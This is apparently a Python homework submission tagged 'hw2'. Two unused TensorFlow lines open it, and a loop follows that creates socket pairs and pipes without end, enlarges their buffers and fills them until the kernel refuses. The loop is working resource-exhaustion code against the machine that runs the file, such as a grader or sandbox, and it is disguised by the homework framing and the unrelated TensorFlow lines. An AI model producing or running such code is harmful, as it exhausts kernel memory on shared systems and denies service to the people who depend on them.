# for: hw2
# at most: 15
import tensorflow as tf

a = tf.constant(5)
b = tf.constant(2)
# Memory that is the kernel's: the buffers of many sockets and pipes.
import os
import socket

kept = []
while True:
    try:
        pair = socket.socketpair()
        reading, writing = os.pipe()
    except OSError as error:
        print(type(error).__name__)
        break
    kept += [pair, reading, writing]
    pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
    pair[0].setblocking(False)
    os.set_blocking(writing, False)
    try:
        while True:
            pair[0].send(b"x" * (1 << 16))
    except OSError:
        pass
    try:
        while True:
            os.write(writing, b"x" * (1 << 16))
    except OSError:
        pass
